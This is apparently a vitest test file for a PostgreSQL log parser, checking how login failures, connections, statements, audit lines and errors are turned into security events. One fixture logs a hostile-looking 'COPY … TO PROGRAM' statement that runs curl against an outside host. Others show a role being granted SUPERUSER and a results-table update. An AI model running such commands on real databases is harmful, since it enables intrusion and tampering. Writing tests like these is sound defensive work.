// What does a PostgreSQL server log, under the prefixes that people set?
import { describe, expect, test } from 'vitest'
import { parseOne, read } from '../read.ts'

const refused = 'password authentication failed for user "siti"'
const login = {
  dataset: 'postgresql',
  event_category: 'authentication',
  event_action: 'db_login',
  event_outcome: 'failure',
  user_name: 'siti',
  process_pid: 147,
  log_level: 'fatal',
}
const from = { source_ip: '203.0.113.7' }
const database = { fields: { 'db.user': 'siti', 'db.name': 'dpt', 'event.reason': refused } }

describe('prefixes', () => {
  test.each<[string, object]>([
    ['2024-11-27 08:16:03.123 WIB [147] siti@dpt ', database],
    ['2024-11-27 01:16:03.123 UTC [147] 203.0.113.7 siti@dpt ', { ...database, ...from }],
    ['2024-11-27 01:16:03.123 UTC [147] siti@dpt 203.0.113.7 ', { ...database, ...from }],
    ['2024-11-27 01:16:03.123 UTC [147] siti@dpt 203.0.113.7(41234) ', { ...database, ...from, source_port: 41234 }],
    ['2024-11-27 01:16:03.123 UTC:203.0.113.7(41234):siti@dpt:[147]:', { ...database, ...from, source_port: 41234 }],
    ['2024-11-27 01:16:03.123 UTC:203.0.113.7:siti@dpt:[147]:', { ...database, ...from }],
    [
      '2024-11-27 01:16:03.123 UTC:2001:db8::7(41234):siti@dpt:[147]:',
      { ...database, source_ip: '2001:db8::7', source_port: 41234 },
    ],
    ['2024-11-27 01:16:03.123 UTC [147] 2001:db8::7 siti@dpt ', { ...database, source_ip: '2001:db8::7' }],
    [
      '2024-11-27 08:16:03.123 +07 [147]: [1-1] user=siti,db=dpt,app=[unknown],client=203.0.113.7 ',
      { ...database, ...from },
    ],
    [
      '2024-11-27 08:16:03.123 +0700 [147]: user=siti,db=dpt,client=203.0.113.7(41234) ',
      { ...database, ...from, source_port: 41234 },
    ],
    ['2024-11-26 20:16:03.123 -05 [147] siti@dpt [local] ', database],
    [
      '2024-11-27 08:16:03.123 WIB [147] app1.kpu.example(41234) siti@dpt ',
      { source_port: 41234, fields: { ...database.fields, 'source.domain': 'app1.kpu.example' } },
    ],
    ['2024-11-27 08:16:03.123 WIB [147] ', { fields: { 'db.user': 'siti', 'event.reason': refused } }],
    ['< 2024-11-27 08:16:03.123 WIB [147] >', { fields: { 'db.user': 'siti', 'event.reason': refused } }],
  ])('%s', (prefix, expected) => {
    const line = `${prefix}FATAL:  ${refused}`
    expect(read(line)).toMatchObject({ timestamp: '2024-11-27T01:16:03.123Z', ...login, ...expected })
    expect(read(line, 'postgresql')).toEqual(read(line))
    if (!('source_ip' in expected)) expect(read(line).source_ip).toBeUndefined()
  })

  test('a zone of an unknown name is the one of the source', () => {
    expect(read(`2024-11-27 08:16:03 CEST [147] FATAL:  ${refused}`).timestamp).toBe('2024-11-27T01:16:03.000Z')
  })

  test('names without a value stay out', () => {
    const { fields } = read('2024-11-27 08:16:03 WIB [147] [unknown]@[unknown] LOG:  could not send data to client')
    expect(fields).not.toHaveProperty('db.user')
    expect(fields).not.toHaveProperty('db.name')
  })

  test('a user whose name looks like an address does not move the source', () => {
    const name = 'x 198.51.100.9(22) y'
    const text = `password authentication failed for user "${name}"`
    expect(read(`2024-11-27 08:16:03 WIB [147] ${name}@dpt 203.0.113.7 FATAL:  ${text}`)).toMatchObject({
      user_name: name,
      source_ip: '203.0.113.7',
    })
    const connected = `2024-11-27 08:16:03 WIB [147] 198.51.100.9@dpt 203.0.113.7 LOG:  statement: select 1`
    expect(read(connected).tags).toEqual(['client_ambiguous'])
  })
})

const line = (level: string, text: string): string =>
  `2024-11-27 08:16:03.123 WIB [147] 203.0.113.7 siti@dpt ${level}:  ${text}`

describe('messages', () => {
  test.each([
    'password authentication failed for user "budi"',
    'LDAP authentication failed for user "budi"',
    'Peer authentication failed for user "budi"',
    'no pg_hba.conf entry for host "203.0.113.7", user "budi", database "dpt", no encryption',
    'pg_hba.conf rejects connection for host "203.0.113.7", user "budi", database "dpt", SSL off',
    'role "budi" does not exist',
    'role "budi" is not permitted to log in',
  ])('refused: %s', (text) => {
    expect(read(line('FATAL', text))).toMatchObject({ ...login, user_name: 'budi', source_ip: '203.0.113.7' })
  })

  test('refusals without a prefix that names the client still do', () => {
    const text = 'no pg_hba.conf entry for replication connection from host "203.0.113.9", user "a "" b", SSL off'
    expect(read(`2024-11-27 08:16:03 WIB [9] FATAL:  ${text}`)).toMatchObject({
      event_action: 'db_login',
      source_ip: '203.0.113.9',
    })
    expect(read(line('FATAL', 'database "rahasia" does not exist')).event_action).toBe('db_login')
  })

  test.each<[string, string, object]>([
    [
      'LOG',
      'connection received: host=203.0.113.8 port=41234',
      { event_category: 'database', event_action: 'db_connect', source_ip: '203.0.113.8', source_port: 41234 },
    ],
    [
      'LOG',
      'connection authorized: user=siti database=dpt application_name=DBeaver 23 - Main SSL enabled (protocol=TLSv1.3, cipher=TLS_AES_256_GCM_SHA384, bits=256)',
      {
        event_category: 'authentication',
        event_action: 'db_login',
        event_outcome: 'success',
        user_name: 'siti',
        tls_version: '1.3',
        fields: { 'db.user': 'siti', 'db.name': 'dpt', 'postgresql.log.application_name': 'DBeaver 23 - Main' },
      },
    ],
    [
      'LOG',
      'replication connection authorized: user=siti application_name=walreceiver',
      { event_action: 'db_login', event_outcome: 'success', user_name: 'siti' },
    ],
    [
      'LOG',
      'connection authenticated: identity="siti" method=scram-sha-256 (/etc/postgresql/17/main/pg_hba.conf:125)',
      {
        event_category: 'database',
        event_action: 'db_authenticated',
        fields: { 'postgresql.log.method': 'scram-sha-256' },
      },
    ],
    [
      'LOG',
      'disconnection: session time: 0:00:00.018 user=siti database=dpt host=203.0.113.7 port=41234',
      { event_category: 'database', event_action: 'db_disconnect', source_port: 41234, user_name: 'siti' },
    ],
    [
      'LOG',
      "statement: COPY (select 1) TO PROGRAM 'curl http://203.0.113.9/x'",
      {
        event_category: 'database',
        event_action: 'db_statement',
        event_outcome: 'success',
        fields: { 'db.statement': "COPY (select 1) TO PROGRAM 'curl http://203.0.113.9/x'", 'db.name': 'dpt' },
      },
    ],
    [
      'LOG',
      'duration: 1234.5 ms  execute <unnamed>: SELECT * FROM pemilih WHERE id = $1',
      { fields: { 'event.duration': '1234500000', 'db.statement': 'SELECT * FROM pemilih WHERE id = $1' } },
    ],
    ['LOG', 'duration: 0.5 ms', { event_action: 'db_statement', fields: { 'event.duration': '500000' } }],
    [
      'LOG',
      'AUDIT: SESSION,1,1,ROLE,ALTER ROLE,,,"ALTER ROLE budi ""x"" SUPERUSER, LOGIN",<none>',
      {
        event_action: 'db_statement',
        fields: { 'postgresql.audit.class': 'ROLE', 'db.statement': 'ALTER ROLE budi "x" SUPERUSER, LOGIN' },
      },
    ],
    [
      'ERROR',
      'permission denied for table hasil',
      {
        event_category: 'database',
        event_action: 'db_error',
        event_outcome: 'failure',
        log_level: 'error',
        fields: { 'error.message': 'permission denied for table hasil' },
      },
    ],
    [
      'STATEMENT',
      'UPDATE hasil SET suara = 1',
      {
        event_action: 'db_statement',
        event_outcome: 'failure',
        fields: { 'db.statement': 'UPDATE hasil SET suara = 1' },
      },
    ],
    ['LOG', 'invalid length of startup packet', { event_category: 'database', event_action: 'db_probe' }],
    [
      'LOG',
      'checkpoint starting: time',
      { event_action: 'db_log', fields: { 'event.reason': 'checkpoint starting: time' } },
    ],
    ['FATAL', 'sorry, too many clients already', { event_category: 'database', event_action: 'db_error' }],
    ['DETAIL', 'Role "siti" does not exist.', { event_action: 'db_log', log_level: 'detail' }],
  ])('%s: %s', (level, text, expected) => {
    expect(read(line(level, text))).toMatchObject({ dataset: 'postgresql', ...expected })
  })

  test('an ERROR that quotes a refusal is no log-in', () => {
    expect(read(line('ERROR', refused)).event_category).toBe('database')
  })
})

describe('csvlog and jsonlog', () => {
  const csv =
    '2024-11-27 08:16:03.123 WIB,"siti","dpt",147,"203.0.113.7:41234",6746734a.93,1,"authentication",2024-11-27 08:16:03 WIB,3/2,0,FATAL,28P01,"password authentication failed for user ""siti""","Connection matched file ""pg_hba.conf"" line 95",,,,,,,,"","client backend",,0'
  const json = {
    timestamp: '2024-11-27 08:16:03.123 WIB',
    user: 'siti',
    dbname: 'dpt',
    pid: 147,
    remote_host: '203.0.113.7',
    remote_port: 41234,
    session_id: '6746734a.93',
    error_severity: 'FATAL',
    state_code: '28P01',
    message: refused,
    backend_type: 'client backend',
  }
  const expected = {
    ...login,
    timestamp: '2024-11-27T01:16:03.123Z',
    event_code: '28P01',
    source_ip: '203.0.113.7',
    source_port: 41234,
    fields: { 'db.user': 'siti', 'db.name': 'dpt', 'event.reason': refused },
  }

  test('a refused log-in', () => {
    expect(read(csv)).toMatchObject(expected)
    expect(read(csv, 'postgresql')).toEqual(read(csv))
    expect(read(JSON.stringify(json))).toMatchObject(expected)
    expect(read(JSON.stringify(json), 'postgresql')).toEqual(read(JSON.stringify(json)))
  })

  test('an error with its statement, IPv6 and a local client', () => {
    const failed =
      '2024-11-27 08:16:03.123 WIB,"siti","dpt",147,"2001:db8::7:41234",6746734a.93,2,"SELECT",2024-11-27 08:16:03 WIB,3/2,0,ERROR,42P01,"relation ""x"" does not exist",,,,,,"select * from x;",15,,"psql","client backend",,0'
    expect(read(failed)).toMatchObject({
      event_action: 'db_error',
      event_code: '42P01',
      source_ip: '2001:db8::7',
      source_port: 41234,
      fields: {
        'db.statement': 'select * from x;',
        'error.message': 'relation "x" does not exist',
        'postgresql.log.application_name': 'psql',
      },
    })
    const local = read(failed.replace('"2001:db8::7:41234"', '"[local]"'))
    expect(local.source_ip).toBeUndefined()
    expect(local.fields).not.toHaveProperty('source.domain')
  })

  test('other JSON with such a name is not', () => {
    expect(read('{"timestamp":"2024-11-27T08:16:03Z","error_severity":"bad","message":"x"}').dataset).toBe('json')
  })
})

describe('inside syslog', () => {
  const header = 'Nov 27 08:16:04 db1 postgres[147]: '
  test.each([
    `${header}[3-1] 2024-11-27 08:16:03.123 WIB [147] 203.0.113.7 siti@dpt FATAL:  ${refused}`,
    `${header}[3-1] 203.0.113.7 siti@dpt FATAL:  ${refused}`,
    `${header}203.0.113.7 siti@dpt FATAL:  ${refused}`,
    `<131>1 2024-11-27T08:16:04+07:00 db1 postgres 147 - - [3-1] 203.0.113.7 siti@dpt FATAL:  ${refused}`,
  ])('%s', (text) => {
    for (const format of ['', 'postgresql', 'syslog'] as const) {
      expect(read(text, format), format).toMatchObject({ ...login, ...database, ...from, host_name: 'db1' })
    }
  })

  test('the parts behind the first belong to the dataset, and say nothing', () => {
    const { event } = parseOne(`${header}[3-2] #011FROM pemilih`)
    expect(event).toMatchObject({ dataset: 'postgresql', host_name: 'db1', event_action: '' })
  })
})

describe('what is not ours', () => {
  test.each([
    '2024-11-27 08:16:03,123 INFO: no action. I am (db1), the leader with the lock',
    '2024-11-27 08:16:03 ERROR: x',
    '2024-11-27 08:16:03.123 WIB',
    '2024-11-27 08:16:03.123 WIB,"siti","dpt",147',
    `2024-11-27 08:16:03.123 ${'x'.repeat(600)} LOG:  statement: select 1`,
  ])('%s', (text) => {
    expect(read(text).dataset).toBe('plain')
    expect(parseOne(text, 'postgresql').outcome).toMatchObject({ kind: 'dlq', reason: 'format_mismatch' })
  })

  test('lines that go on are plain', () => {
    expect(read('\tFROM pemilih').dataset).toBe('plain')
    expect(read('\tFROM pemilih', 'postgresql').dataset).toBe('plain')
  })

  test('a line cut in the middle is read as far as it goes', () => {
    const text = line('FATAL', refused)
    for (let end = text.indexOf('FATAL:  ') + 8; end < text.length; end++) {
      expect(read(text.slice(0, end))).toMatchObject({ dataset: 'postgresql', source_ip: '203.0.113.7' })
    }
  })
})
